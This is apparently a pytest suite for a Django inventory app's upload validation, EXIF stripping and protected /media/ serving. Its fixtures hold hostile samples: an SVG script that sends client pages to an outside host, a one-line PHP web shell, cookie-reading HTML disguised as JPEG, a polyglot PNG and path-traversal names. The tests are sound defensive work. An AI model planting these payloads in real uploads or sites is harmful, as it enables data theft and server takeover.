"""Uploads are accepted by content: a script in an SVG, a page or a program renamed .jpg, an
oversize file are refused with a clear form error and nothing saved; an image is drawn again
without its EXIF (GPS position); /media/ serves with Content-Disposition, a sandbox policy and
nosniff, and never serves contracts or import files."""

import io
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import ExifTags, Image

from kvartal.core import uploads
from kvartal.inventory import services
from kvartal.inventory.models import Floor
from kvartal.testing import make_section

SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/app/clients/').then(r=>r.text()).then(t=>new Image().src='//x/?'+t)"
    b"</script><rect width='10' height='10'/></svg>"
)
HTML_AS_JPEG = b"\xff\xd8\xff\xe0<html><body><script>alert(document.cookie)</script></body></html>"
PHP_AS_JPEG = b"<?php system($_GET['c']); ?>"


def png(size=(40, 30), colour="red") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, "PNG")
    return out.getvalue()


def jpeg_with_gps() -> bytes:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Phone of the owner"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (55.0, 45.0, 21.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (37.0, 37.0, 4.0)
    out = io.BytesIO()
    Image.new("RGB", (40, 30), "blue").save(out, "JPEG", exif=exif)
    return out.getvalue()


def media_files(settings) -> list[Path]:
    root = Path(settings.MEDIA_ROOT)
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


# --- the check itself ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("plan.svg", SVG),
        ("plan.jpg", SVG),
        ("plan.jpg", HTML_AS_JPEG),
        ("plan.jpg", PHP_AS_JPEG),
        ("plan.png", b"\x89PNG\r\n\x1a\n" + b"0" * 64),  # a PNG's first bytes, no image
        ("plan.pdf", b"%PDF-1.7 <script>"),  # not a PDF for an image field anyway
    ],
)
def test_what_is_not_an_image_is_refused_whatever_its_name(name, content):
    with pytest.raises(ValidationError) as error:
        uploads.check(SimpleUploadedFile(name, content), (uploads.IMAGE,))
    assert error.value.code == "file_kind"
    assert "SVG" in error.value.messages[0]


def test_an_oversize_file_is_refused_before_it_is_read(settings):
    settings.KVARTAL_UPLOAD_MAX_MB = 1
    big = SimpleUploadedFile("big.png", png() + b"\0" * (1024 * 1024))
    with pytest.raises(ValidationError) as error:
        uploads.check(big, (uploads.IMAGE,))
    assert error.value.code == "file_size"
    assert "1 MB" in error.value.messages[0]


def test_the_gps_position_in_a_photo_is_stripped():
    original = jpeg_with_gps()
    with Image.open(io.BytesIO(original)) as probe:  # the test's photo does carry it
        assert probe.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    clean = uploads.check(SimpleUploadedFile("IMG_0001.jpg", original), (uploads.IMAGE,))
    data = clean.read()
    with Image.open(io.BytesIO(data)) as image:
        assert image.format == "JPEG" and image.size == (40, 30)
        assert not image.getexif()
        assert not image.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    assert b"Exif" not in data and b"Phone of the owner" not in data


def test_what_follows_an_image_is_dropped_and_the_name_is_random():
    polyglot = png() + b"<html><script>alert(1)</script></html>"
    clean = uploads.check(SimpleUploadedFile("../../evil.png", polyglot), (uploads.IMAGE,))
    assert b"<script>" not in clean.read()
    assert clean.name.endswith(".png") and "evil" not in clean.name and "/" not in clean.name
    again = uploads.check(SimpleUploadedFile("evil.png", polyglot), (uploads.IMAGE,))
    assert again.name != clean.name


def test_documents_and_imports_are_recognised_by_content():
    import zipfile

    docx = io.BytesIO()
    with zipfile.ZipFile(docx, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    ok = uploads.check(SimpleUploadedFile("t.bin", docx.getvalue()), (uploads.DOCX,))
    assert ok.name.endswith(".docx")
    csv = uploads.check(
        SimpleUploadedFile("p.xlsx", "номер;цена\n1;100\n".encode()), ("xlsx", "csv")
    )
    assert csv.name.endswith(".csv")  # the format is the content's, not the name's
    for bad in (HTML_AS_JPEG, b"<html><script>x</script></html>", b"PK\x03\x04garbage"):
        with pytest.raises(ValidationError):
            uploads.check(SimpleUploadedFile("t.xlsx", bad), (uploads.XLSX, uploads.CSV))


# --- every door: the page's form, the service ------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("plan.svg", SVG, "SVG"),
        ("plan.jpg", HTML_AS_JPEG, "SVG"),
        ("plan.jpg", PHP_AS_JPEG, "SVG"),
        ("plan.png", None, "larger than 1 MB"),
    ],
)
def test_the_floor_page_refuses_a_bad_plan_with_a_form_error_and_saves_nothing(
    client, keeper, settings, name, content, message
):
    settings.KVARTAL_UPLOAD_MAX_MB = 1
    floor = make_section(floors=1, per_floor=1).floors.get()
    content = content if content is not None else png() + b"\0" * (1024 * 1024 + 1)
    client.force_login(keeper)
    response = client.post(
        reverse("inventory:floor-update", args=[floor.pk]),
        {
            "label": "Новое имя",
            "level_type": floor.level_type,
            "plan": SimpleUploadedFile(name, content),
        },
    )
    assert response.status_code in (200, 400)
    assert message in response.content.decode()
    floor.refresh_from_db()
    assert not floor.plan and floor.label != "Новое имя"
    assert media_files(settings) == []


def test_the_floor_page_stores_a_photo_redrawn_under_a_random_name(client, keeper, settings):
    floor = make_section(floors=1, per_floor=1).floors.get()
    client.force_login(keeper)
    response = client.post(
        reverse("inventory:floor-update", args=[floor.pk]),
        {
            "label": floor.label,
            "level_type": floor.level_type,
            "plan": SimpleUploadedFile("Квартира у Иванова.jpg", jpeg_with_gps()),
        },
    )
    assert response.status_code == 302
    floor.refresh_from_db()
    assert floor.plan.name.startswith("plans/floors/") and floor.plan.name.endswith(".jpg")
    assert "Иванова" not in floor.plan.name
    with floor.plan.open("rb") as stored, Image.open(stored) as image:
        assert not image.getexif()


def test_a_service_refuses_an_svg_too(keeper, settings):
    floor = make_section(floors=1, per_floor=1).floors.get()
    floor.plan = SimpleUploadedFile("plan.svg", SVG)
    with pytest.raises(ValidationError):
        services.floor_save(floor=floor, by=keeper)
    assert not Floor.objects.get(pk=floor.pk).plan
    assert media_files(settings) == []


def test_a_file_saved_straight_onto_the_field_is_checked(keeper, settings):
    from django.core.files.base import ContentFile

    floor = make_section(floors=1, per_floor=1).floors.get()
    with pytest.raises(ValidationError):
        floor.plan.save("plan.jpg", ContentFile(HTML_AS_JPEG))
    assert media_files(settings) == []


# --- /media/ --------------------------------------------------------------------------------


def _stored(settings, relative: str, content: bytes) -> None:
    path = Path(settings.MEDIA_ROOT) / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)


def test_media_shows_an_image_inline_in_a_sandbox(client, manager, settings):
    _stored(settings, "plans/units/a.png", png())
    client.force_login(manager)
    response = client.get("/media/plans/units/a.png")
    assert response.status_code == 200
    assert response["Content-Type"] == "image/png"
    assert response["Content-Disposition"].startswith("inline")
    assert response["Content-Security-Policy"].startswith("sandbox")
    assert response["X-Content-Type-Options"] == "nosniff"


def test_media_downloads_anything_else(client, manager, settings):
    _stored(settings, "plans/units/old.svg", SVG)  # stored before the check existed
    client.force_login(manager)
    response = client.get("/media/plans/units/old.svg")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment")
    assert response["Content-Security-Policy"].startswith("sandbox")


@pytest.mark.parametrize(
    "path",
    [
        "documents/generated/contract.pdf",
        "imports/prices.xlsx",
        "plans/../documents/generated/contract.pdf",
        "plans/%2e%2e/documents/generated/contract.pdf",
    ],
)
def test_media_never_serves_contracts_or_imports(client, director, settings, path):
    _stored(settings, "documents/generated/contract.pdf", b"%PDF-1.7\n%%EOF")
    _stored(settings, "imports/prices.xlsx", b"PK")
    client.force_login(director)
    assert client.get(f"/media/{path}").status_code == 404


def test_media_is_for_signed_in_readers(client, settings):
    _stored(settings, "plans/units/a.png", png())
    assert client.get("/media/plans/units/a.png").status_code == 302
